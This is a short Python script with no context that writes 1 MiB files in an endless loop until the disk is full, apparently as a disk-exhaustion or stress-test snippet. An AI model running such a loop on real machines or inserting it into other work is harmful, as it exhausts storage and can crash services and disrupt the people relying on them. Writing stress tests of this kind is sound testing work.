number = 0
while True:
    with open(f"file{number}", "wb") as stream:
        stream.write(b"x" * (1 << 20))
    number += 1
